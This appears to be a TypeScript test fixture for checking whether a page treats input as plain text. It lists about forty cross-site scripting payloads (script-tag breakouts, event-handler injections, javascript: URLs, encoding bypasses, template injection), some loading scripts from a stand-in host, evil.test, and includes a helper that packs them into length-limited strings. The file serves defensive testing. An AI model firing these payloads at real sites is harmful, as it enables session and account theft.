/**
 * Texts that run as code if a page does not treat them as plain text. A text that runs calls `pwned()` or adds the
 * element `#pwned`. Each text is short enough for the name of a group.
 */
export const SCRIPT_STRINGS: readonly string[] = [
  '<script>pwned()</script>',
  '<script src=//evil.test/pwned.js></script>',
  '<ScRiPt>pwned()</sCrIpT>',
  '<script>/*</script><script>*/pwned()</script>',
  '</title><script>pwned()</script>',
  '</textarea><script>pwned()</script>',
  '</style><script>pwned()</script>',
  '</noscript><script>pwned()</script>',
  '--><script>pwned()</script><!--',
  ']]><script>pwned()</script>',
  '\\u003cscript\\u003epwned()\\u003c/script\\u003e',
  '&lt;script&gt;pwned()&lt;/script&gt;',
  '%3Cscript%3Epwned()%3C/script%3E',
  '<img id=pwned src=x onerror=pwned()>',
  '<img id=pwned src=x onerror="pwned()"//',
  '"><img id=pwned src=x onerror=pwned()>',
  "'><img id=pwned src=x onerror=pwned()>",
  '`><img id=pwned src=x onerror=pwned()>',
  '<svg id=pwned onload=pwned()>',
  '<svg id=pwned><script>pwned()</script></svg>',
  '<svg id=pwned><animate onbegin=pwned() attributeName=x>',
  '<math id=pwned><mtext><script>pwned()</script>',
  '<body id=pwned onload=pwned()>',
  '<iframe id=pwned srcdoc="<script>pwned()</script>">',
  '<iframe id=pwned src=javascript:pwned()>',
  '<object id=pwned data=javascript:pwned()>',
  '<embed id=pwned src=javascript:pwned()>',
  '<a id=pwned href=javascript:pwned()>press</a>',
  'javascript:pwned()',
  'JaVaScRiPt:pwned()//',
  'data:text/html,<script>pwned()</script>',
  '<form id=pwned action=javascript:pwned()><button>ok',
  '<input id=pwned autofocus onfocus=pwned()>',
  '<details id=pwned open ontoggle=pwned()>',
  '<video id=pwned><source onerror=pwned()>',
  '<style id=pwned>*{background:url(javascript:pwned())}</style>',
  '<link id=pwned rel=stylesheet href=//evil.test/pwned.css>',
  '<meta id=pwned http-equiv=refresh content=0;url=//evil.test>',
  '{{constructor.constructor("pwned()")()}}',
  '"onmouseover="pwned()" x="',
];

/** Joins the strings in their order, one per line, into texts of at most `most` characters. */
export function textsOf(most: number): string[] {
  const texts: string[] = [];
  for (const string of SCRIPT_STRINGS) {
    const last = texts.at(-1);
    const together = last === undefined ? string : `${last}\n${string}`;
    if (last !== undefined && together.length <= most) texts[texts.length - 1] = together;
    else texts.push(string);
  }
  return texts;
}
